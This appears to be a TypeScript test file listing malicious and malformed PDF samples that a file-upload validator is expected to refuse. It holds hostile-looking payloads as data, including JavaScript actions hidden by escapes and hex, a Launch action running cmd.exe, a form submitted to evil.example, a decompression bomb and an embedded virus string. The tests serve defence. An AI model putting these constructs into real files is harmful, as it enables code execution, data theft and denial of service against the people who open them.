import { joinBytes, script, latin1, virus, refusedAs, type BadFile } from "./bad-file.ts";
import { packed, pdf, pdfWith } from "./good-files.ts";
import { zip } from "./zip.ts";

const action = (words: string) => `4 0 obj\n<< /Type /Action ${words} >>\nendobj`;

export const pdfs: readonly BadFile[] = [
  ...refusedAs("file-active", "pdf", [
    [
      "a PDF whose catalog runs JavaScript",
      pdf({ catalog: "/OpenAction 4 0 R", more: action("/S /JavaScript /JS (app.alert\\(1\\))") }),
    ],
    ["a PDF that spells JavaScript with escapes", pdfWith(action("/S /J#61vaScript /J#53 (1)"))],
    ["a PDF that launches a program", pdfWith(action("/S /Launch /F (cmd.exe)"))],
    [
      "a PDF that acts when it is opened",
      pdf({ catalog: "/OpenAction << /S /URI /URI (https://evil.example) >>" }),
    ],
    ["a PDF whose page acts when it is left", pdfWith("4 0 obj\n<< /AA << /C 5 0 R >> >>\nendobj")],
    ["a PDF that sends a form away", pdfWith(action("/S /SubmitForm /F (https://evil.example)"))],
    ["a PDF that imports data", pdfWith(action("/S /ImportData /F (x.fdf)"))],
    ["a PDF with a file in it", pdf({ catalog: "/Names << /EmbeddedFiles 5 0 R >>" })],
    ["a PDF with a form of XFA", pdf({ catalog: "/AcroForm << /XFA 5 0 R >>" })],
    ["a PDF with rich media", pdfWith("4 0 obj\n<< /Subtype /RichMedia >>\nendobj")],
    ["a PDF that goes on in another file", pdfWith(action("/S /GoToR /F (other.pdf)"))],
    ["a PDF whose link runs a script", pdfWith(action("/S /URI /URI (javascript:app.alert\\(1\\))"))],
    [
      "a PDF whose link runs a script by a scheme with a tab in it",
      pdfWith(action("/S /URI /URI (java\\tscript:app.alert\\(1\\))")),
    ],
    [
      "a PDF whose link runs a script, told in hex elsewhere",
      pdfWith(`${action("/S /URI /URI 9 0 R")}\n9 0 obj\n<6a6176617363726970743a61>\nendobj`),
    ],
    ["a PDF that goes on in a file of another machine", pdfWith(action("/S /Thread /F (//evil/x.pdf)"))],
    [
      "a PDF with JavaScript among packed objects",
      pdfWith(packed("/Type /ObjStm /N 1 /First 4", "4 0 << /S /JavaScript /JS (1) >>")),
    ],
    [
      "a PDF whose packed objects are packed twice",
      pdfWith(
        packed("/Type /ObjStm", "x").replace(
          "/Filter /FlateDecode",
          "/Filter [/ASCIIHexDecode /FlateDecode]",
        ),
      ),
    ],
  ]),
  ["a PDF that needs a password", "n.pdf", pdfWith("trailer\n<< /Encrypt 5 0 R >>"), "file-encrypted"],
  [
    "a PDF whose packed objects are a bomb",
    "o.pdf",
    pdfWith(packed("/Type /ObjStm", Buffer.alloc(33 * 1024 * 1024))),
    "file-unpacks-too-large",
  ],
  [
    "a PDF whose packed objects are damaged",
    "p.pdf",
    pdfWith("9 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot packed\nendstream\nendobj"),
    "file-damaged",
  ],
  ...refusedAs("file-cut", "pdf", [
    ["a PDF that is cut in the middle", pdf().subarray(0, 150)],
    ["a PDF whose last line is missing", latin1(pdf().toString("latin1").replace("%%EOF\n", ""))],
    ["a PDF that is nothing but its mark", latin1("%PDF-1.7\n")],
  ]),
  ["a web page before a PDF", "t.pdf", joinBytes(script, pdf()), "type-differs"],
  ...refusedAs("file-mixed", "pdf", [
    ["a web page after a PDF", joinBytes(pdf(), script)],
    ["a web page in a comment of a PDF", pdfWith(`% ${script}`)],
    ["an archive after a PDF", joinBytes(pdf(), zip([{ name: "x.txt", bytes: "x" }]))],
  ]),
  ["a virus in a PDF", "x.pdf", pdfWith(`% ${virus}`), "file-malware"],
];
